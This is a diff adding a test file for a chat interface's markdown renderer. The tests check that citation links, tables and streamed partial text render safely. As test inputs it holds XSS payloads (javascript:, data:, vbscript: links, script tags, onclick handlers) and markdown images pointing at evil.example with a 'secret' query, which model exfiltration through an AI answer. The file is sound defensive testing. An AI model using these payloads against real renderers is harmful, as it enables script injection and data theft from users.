@@ -1,0 +1,44 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { blocksOf, renderBlock } from "../src/chat/markdown.ts";
+
+test("a citation becomes a hash link, written with or without its hash", () => {
+  for (const address of ["#f12", "f12"]) {
+    assert.match(renderBlock(`[parse](${address})`, false), /<a href="#f12" class="citation" title="[^"]*">parse<\/a>/);
+  }
+});
+
+test("a script link stays text", () => {
+  for (const address of ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,x", "vbscript:x", "&#106;avascript:x", "//evil.example", "/api/v1/traces"]) {
+    assert.doesNotMatch(renderBlock(`[x](${address})`, false), /<a /);
+  }
+});
+
+test("raw HTML stays text", () => {
+  assert.doesNotMatch(renderBlock("<script>alert(1)</script>\n\n<b onclick=x>hi</b>", false), /<(script|b)/);
+});
+
+test("an image in an answer fetches nothing", () => {
+  for (const source of ["![x](https://evil.example/?q=secret)", "![x][1]\n\n[1]: https://evil.example/a.png"]) {
+    assert.doesNotMatch(renderBlock(source, false), /<img/);
+  }
+});
+
+test("table alignment is a class, never a style", () => {
+  const html = renderBlock("| a | b |\n|:--|--:|\n| 1 | 2 |", false);
+  assert.match(html, /<td class="align-right">2<\/td>/);
+  assert.doesNotMatch(html, /style=/);
+});
+
+test("a half-typed link or emphasis does not show its marks while the answer grows", () => {
+  assert.doesNotMatch(renderBlock("see [parseJ", true), /\[/);
+  assert.match(renderBlock("this is **hot", true), /<strong>hot<\/strong>/);
+});
+
+test("blocks join to the same text, and a longer answer keeps its first blocks", () => {
+  const text = "# Title\n\nOne\nstill one\n\n- a\n- b\n\n```js\ncode\n\nmore\n```\n\n| a |\n|---|\n| 1 |\n\nlast";
+  const blocks = blocksOf(text);
+  assert.equal(blocks.join("\n"), text);
+  assert.equal(blocks.length, 6);
+  assert.deepEqual(blocksOf(`${text} grows`).slice(0, 5), blocks.slice(0, 5));
+});
